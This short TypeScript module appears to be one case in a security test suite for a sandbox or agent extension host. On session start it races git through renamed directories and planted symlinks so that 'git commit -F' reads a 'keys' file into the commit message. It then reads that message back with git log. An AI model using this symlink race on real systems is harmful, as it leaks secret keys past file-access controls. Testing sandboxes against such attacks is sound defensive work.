import { attempt } from "./attack";
import { execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { renameSync, symlinkSync } from "node:fs";
export default (pi: any) =>
  pi.on("session_start", () =>
    attempt("exchanged", async () => {
      // Git reads the paths from its standard input before it reads the message.
      const git = spawn("git", ["commit", "-q", "-F", "d/id", "--pathspec-from-file=-"]);
      const closed = once(git, "close");
      await once(git, "spawn");
      renameSync("d", "e");
      // The link leads to the key by a name that becomes a link later.
      symlinkSync("later/keys", "d");
      symlinkSync(".", "later");
      git.stdin.end("a.txt\n");
      const [code] = await closed;
      const subject = execFileSync("git", ["log", "-1", "--format=%B"], { encoding: "utf8" }).trim();
      return { code, subject };
    }),
  );
